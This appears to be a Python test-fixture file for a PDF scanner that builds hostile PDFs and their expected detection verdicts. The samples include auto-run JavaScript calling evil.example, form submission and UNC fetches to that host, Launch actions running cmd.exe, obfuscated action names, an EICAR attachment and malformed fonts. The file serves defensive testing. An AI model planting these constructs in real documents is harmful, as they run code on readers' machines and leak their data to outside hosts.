"""PDFs that act, reach out, carry files, are locked, or have pages and fonts that are none."""

from __future__ import annotations

import io
import re
import zlib

import pikepdf

from tests.common.files.bad_types import zipped
from tests.common.files.corpus import ACTIVE, EICAR, REPAIRED, BadFile
from tests.sample_files import SMALL_PDF, make_pdf, stream

SCRIPT = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"
TWO_PAGES, NO_PAGE = b"<< /Type /Pages /Kids [3 0 R 7 0 R] /Count 2 >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
INSIDE, PAGE_SIZE = ("file.archive_inside", "file.polyglot"), ("file.page_too_large",)


def opening(action: bytes) -> bytes:
    return make_pdf(catalog=b"/OpenAction " + action)


def annotated(words: bytes, more: dict[int, bytes] | None = None) -> bytes:
    """A page with one annotation."""
    return make_pdf({6: b"<< /Type /Annot /Rect [10 10 90 90] %s >>" % words} | (more or {}), page=b"/Annots [6 0 R]")


def named(tree: bytes, more: dict[int, bytes] | None = None) -> bytes:
    return make_pdf(more, catalog=b"/Names << %s >>" % tree)


def attached(content: bytes, words: bytes = b"/Type /EmbeddedFile") -> bytes:
    file = {7: stream(content, words), 8: b"<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>"}
    return named(b"/EmbeddedFiles << /Names [(a.txt) 8 0 R] >>", file)


def field(words: bytes) -> bytes:
    """A form with one text field."""
    box = b"/Subtype /Widget /FT /Tx /T (a) " + words
    return make_pdf(
        {6: b"<< /Type /Annot /Rect [10 10 90 90] %s >>" % box},
        page=b"/Annots [6 0 R]",
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
    )


def with_xfa() -> bytes:
    template = stream(b"<template><script contentType='application/x-javascript'>app.alert(1)</script></template>")
    return make_pdf({7: template}, catalog=b"/AcroForm << /Fields [] /XFA [(template) 7 0 R] >>")


def packed(content: bytes) -> bytes:
    """The same with its objects inside a compressed object stream."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in buffer.getvalue()
    return buffer.getvalue()


def older_state() -> bytes:
    """The script is in the first state of the file; an update put another catalog over it."""
    first = opening(SCRIPT)
    start = int(re.findall(rb"startxref\n(\d+)", first)[-1])
    at = len(first)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\n" % (at, start)
    return first + update + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(update))


def locked(**password: str) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(SMALL_PDF)) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(R=6, **{"owner": "o", "user": ""} | password))
    return buffer.getvalue()


def sized(box: bytes, more: bytes = b"") -> bytes:
    return make_pdf({3: b"<< /Type /Page /Parent 2 0 R /Resources << >> /MediaBox %s %s >>" % (box, more)})


def with_font(key: bytes, programme: bytes) -> bytes:
    """Text in a font whose programme is `programme`."""
    fonts = b"<< /F1 << /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 6 0 R >> >>"
    return make_pdf(
        {
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font %s >> >>"
            % fonts,
            6: b"<< /Type /FontDescriptor /FontName /Evil /Flags 4 %s 7 0 R >>" % key,
            7: stream(zlib.compress(programme), b"/Filter /FlateDecode /Length1 %d" % len(programme)),
        }
    )


def signed_with_script() -> bytes:
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 10 20 30] /Contents <00> >>"
    return make_pdf(
        {6: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /V 7 0 R >>", 7: signature},
        page=b"/Annots [6 0 R]",
        catalog=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >> /OpenAction " + SCRIPT,
    )


def outside_stream() -> bytes:
    return make_pdf({4: stream(b"", rb"/F (\\\\evil.example\\share\\a)")})


def link(action: bytes) -> bytes:
    return annotated(b"/Subtype /Link /A " + action)


FILES = [
    BadFile("script_on_open", "a.pdf", lambda: opening(SCRIPT), ACTIVE),
    BadFile(
        "script_coded_name", "a.pdf", lambda: opening(b"<< /#53 /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"), ACTIVE
    ),
    BadFile("open_action_coded", "a.pdf", lambda: make_pdf(catalog=b"/Open#41ction " + SCRIPT), ACTIVE),
    BadFile("script_packed", "a.pdf", lambda: packed(opening(SCRIPT)), ACTIVE),
    BadFile("script_of_its_own", "a.pdf", lambda: make_pdf({9: SCRIPT}, catalog=b"/OpenAction 9 0 R"), ACTIVE),
    BadFile(
        "script_in_stream",
        "a.pdf",
        lambda: make_pdf({9: stream(b"app.alert(1)")}, catalog=b"/OpenAction << /S /JavaScript /JS 9 0 R >>"),
        ACTIVE,
    ),
    BadFile("script_in_names", "a.pdf", lambda: named(b"/JavaScript << /Names [(a) %s] >>" % SCRIPT), ACTIVE),
    BadFile(
        "script_in_names_kids",
        "a.pdf",
        lambda: named(b"/JavaScript << /Kids [<< /Names [(a) 9 0 R] >>] >>", {9: SCRIPT}),
        ACTIVE,
    ),
    BadFile("script_in_link", "a.pdf", lambda: link(SCRIPT), ACTIVE),
    BadFile(
        "script_behind_a_step", "a.pdf", lambda: link(b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % SCRIPT), ACTIVE
    ),
    BadFile("script_of_page", "a.pdf", lambda: make_pdf(page=b"/AA << /O %s >>" % SCRIPT), ACTIVE),
    BadFile("script_of_document_end", "a.pdf", lambda: make_pdf(catalog=b"/AA << /WC %s >>" % SCRIPT), ACTIVE),
    BadFile("script_of_field", "a.pdf", lambda: field(b"/AA << /K %s /C %s >>" % (SCRIPT, SCRIPT)), ACTIVE),
    BadFile(
        "script_of_outline",
        "a.pdf",
        lambda: make_pdf(
            {8: b"<< /First 9 0 R /Last 9 0 R /Count 1 >>", 9: b"<< /Title (a) /Parent 8 0 R /A %s >>" % SCRIPT},
            catalog=b"/Outlines 8 0 R",
        ),
        ACTIVE,
    ),
    BadFile("script_of_nobody", "a.pdf", lambda: make_pdf({9: SCRIPT}), ACTIVE),
    BadFile("script_in_older_state", "a.pdf", older_state, ACTIVE),
    BadFile("script_hides_as_font", "a.pdf", lambda: make_pdf(page=b"/AA << /Type /Font /O %s >>" % SCRIPT), ACTIVE),
    BadFile("script_and_signature", "a.pdf", signed_with_script, ACTIVE),
    BadFile("launch", "a.pdf", lambda: opening(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    BadFile("launch_windows", "a.pdf", lambda: link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), ACTIVE),
    BadFile("submit_form", "a.pdf", lambda: link(b"<< /S /SubmitForm /F (http://evil.example) >>"), ACTIVE),
    BadFile("import_data", "a.pdf", lambda: link(b"<< /S /ImportData /F (a.fdf) >>"), ACTIVE),
    BadFile(
        "go_to_remote", "a.pdf", lambda: opening(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>"), ACTIVE
    ),
    BadFile("go_to_embedded", "a.pdf", lambda: link(b"<< /S /GoToE /D [0 /Fit] >>"), ACTIVE),
    BadFile("named_print", "a.pdf", lambda: opening(b"<< /S /Named /N /Print >>"), ACTIVE),
    BadFile("rendition", "a.pdf", lambda: annotated(b"/Subtype /Screen /A << /S /Rendition /OP 0 >>"), ACTIVE),
    BadFile("movie", "a.pdf", lambda: annotated(b"/Subtype /Movie /Movie << /F (a.mov) >>"), ACTIVE),
    BadFile(
        "sound", "a.pdf", lambda: annotated(b"/Subtype /Sound /Sound 9 0 R", {9: stream(b"x", b"/R 8000")}), ACTIVE
    ),
    BadFile(
        "rich_media", "a.pdf", lambda: annotated(b"/Subtype /RichMedia /RichMediaContent << /Assets << >> >>"), ACTIVE
    ),
    BadFile(
        "three_d",
        "a.pdf",
        lambda: annotated(b"/Subtype /3D /3DD 9 0 R", {9: stream(b"x", b"/Type /3D /OnInstantiate 4 0 R")}),
        ACTIVE,
    ),
    BadFile("script_address", "a.pdf", lambda: link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), ACTIVE),
    BadFile(
        "file_address", "a.pdf", lambda: link(b"<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>"), ACTIVE
    ),
    BadFile("script_address_spaced", "a.pdf", lambda: link(b"<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>"), ACTIVE),
    BadFile("xfa", "a.pdf", with_xfa, (*ACTIVE, "file.polyglot")),
    BadFile("outside_content", "a.pdf", outside_stream, ACTIVE),
    BadFile(
        "postscript_inside", "a.pdf", lambda: make_pdf({9: stream(b"(x) run", b"/Type /XObject /Subtype /PS")}), ACTIVE
    ),
    BadFile("attachment", "a.pdf", lambda: attached(b"hello"), ACTIVE),
    BadFile("attachment_unnamed", "a.pdf", lambda: attached(b"hello", b""), ACTIVE),
    BadFile(
        "attachment_on_page",
        "a.pdf",
        lambda: annotated(b"/Subtype /FileAttachment /FS << /Type /Filespec /EF << /F 7 0 R >> >>", {7: stream(b"x")}),
        ACTIVE,
    ),
    BadFile(
        "attachment_associated",
        "a.pdf",
        lambda: make_pdf(
            {7: stream(b"x", b"/Type /EmbeddedFile")}, catalog=b"/AF [<< /Type /Filespec /EF << /F 7 0 R >> >>]"
        ),
        ACTIVE,
    ),
    BadFile("portfolio", "a.pdf", lambda: make_pdf(catalog=b"/Collection << /View /D >>"), ACTIVE),
    BadFile("attachment_eicar", "a.pdf", lambda: attached(EICAR), (*ACTIVE, "file.infected")),
    BadFile("attachment_zip", "a.pdf", lambda: attached(zipped({"eicar.com": EICAR})), INSIDE),
    BadFile(
        "attachment_zip_packed",
        "a.pdf",
        lambda: attached(zlib.compress(zipped({"a": b"1"})), b"/Filter /FlateDecode"),
        INSIDE,
    ),
    BadFile("attachment_program", "a.pdf", lambda: attached(b"MZ" + b"\x00" * 99), INSIDE),
    BadFile("attachment_macros", "a.pdf", lambda: attached(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 99), INSIDE),
    BadFile("locked", "a.pdf", lambda: locked(user="secret"), ("file.encrypted",)),
    BadFile("locked_for_printing", "a.pdf", locked, ("file.encrypted",)),
    BadFile("page_huge", "a.pdf", lambda: sized(b"[0 0 200000 200000]"), PAGE_SIZE),
    BadFile("page_huge_unit", "a.pdf", lambda: sized(b"[0 0 595 842]", b"/UserUnit 5000"), PAGE_SIZE),
    BadFile("page_empty", "a.pdf", lambda: sized(b"[0 0 0 0]"), PAGE_SIZE),
    BadFile("page_thin", "a.pdf", lambda: sized(b"[0 0 0.0001 842]"), PAGE_SIZE),
    BadFile("page_of_words", "a.pdf", lambda: sized(b"[(a) (b) (c) (d)]"), (*REPAIRED, *PAGE_SIZE)),
    BadFile("page_infinite", "a.pdf", lambda: sized(b"[0 0 1e999 1e999]"), (*REPAIRED, *PAGE_SIZE)),
    BadFile("second_page_is_none", "a.pdf", lambda: make_pdf({2: TWO_PAGES, 7: NO_PAGE}), ("file.damaged",)),
    BadFile("no_pages", "a.pdf", lambda: make_pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), ("file.no_pages",)),
    BadFile("no_catalog", "a.pdf", lambda: make_pdf({1: b"null"}), ("file.damaged",)),
    BadFile("table_off", "a.pdf", lambda: re.sub(rb"startxref\n\d+", b"startxref\n7", SMALL_PDF), REPAIRED),
    BadFile("font_garbage", "a.pdf", lambda: with_font(b"/FontFile2", b"\x00\x01\x00\x00" + b"\xff" * 3000), ACTIVE),
    BadFile(
        "font_type1_garbage", "a.pdf", lambda: with_font(b"/FontFile", b"%!PS-AdobeFont-1.0" + b"\x80" * 900), ACTIVE
    ),
    BadFile("font_cff_garbage", "a.pdf", lambda: with_font(b"/FontFile3", b"\x01\x00\x04\x04" + b"\xff" * 900), ACTIVE),
    BadFile("font_empty", "a.pdf", lambda: with_font(b"/FontFile2", b""), ACTIVE),
]
